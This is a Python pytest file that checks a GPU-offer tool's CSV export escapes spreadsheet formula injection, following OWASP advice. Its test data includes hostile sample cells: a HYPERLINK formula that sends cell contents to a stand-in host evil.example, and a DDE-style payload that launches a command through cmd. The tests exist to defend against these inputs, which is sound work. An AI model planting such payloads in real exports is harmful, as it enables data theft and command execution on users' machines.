"""Provider text in a CSV export is data, never a formula (OWASP's CSV injection advice:
a leading `'` on any cell that starts with =, +, -, @, tab or CR)."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

import pytest

from gpucm.cli.main import main
from gpucm.domain.models import Offer
from gpucm.export import csv_cell, write_offers
from gpucm.store.store import Store
from tests.offer_factory import make_offer

HOSTILE = {
    "gpu_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "region": "@SUM(1+1)*cmd|' /C calc'!A0",
    "provider_id": "+SUM(1,2)",
}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(1,2)", "'+SUM(1,2)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("RTX 4090", "RTX 4090"),
        ("a=b", "a=b"),
        (-0.5, -0.5),  # a number stays a number
        (None, None),
    ],
)
def test_cells_that_would_start_a_formula_are_neutralised(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def hostile_offers() -> list[Offer]:
    return [
        make_offer("vast_ai", "7", HOSTILE["gpu_name"], region=HOSTILE["region"]),
        make_offer("runpod", HOSTILE["provider_id"], "=1+1", price_per_hour=0.5),
    ]


def test_an_offer_export_writes_provider_text_as_text() -> None:
    out = io.StringIO()
    assert write_offers(hostile_offers(), out, "csv") == 2
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["gpu_name"] == "'" + HOSTILE["gpu_name"]
    assert rows[0]["region"] == "'" + HOSTILE["region"]
    assert rows[1]["provider_id"] == "'" + HOSTILE["provider_id"]
    assert rows[1]["id"] == "runpod:" + HOSTILE["provider_id"]  # starts with a letter: as is
    assert rows[1]["gpu_name"] == "'=1+1"
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    assert rows[1]["price_per_hour"] == "0.5"


def test_the_cli_csv_of_a_store_holding_such_offers(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = tmp_path / "gpucm.db"

    async def fill() -> None:
        store = await Store.open(db)
        for offer in hostile_offers():
            await store.replace_offers(offer.provider, [offer])
        await store.close()

    asyncio.run(fill())
    assert main(["offers", "--db", str(db), "--all", "--csv"]) == 0
    text = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["gpu_name"] for r in rows} == {"'" + HOSTILE["gpu_name"], "'=1+1"}
    assert "\n=" not in text and ",=" not in text and ",@" not in text and ",+" not in text
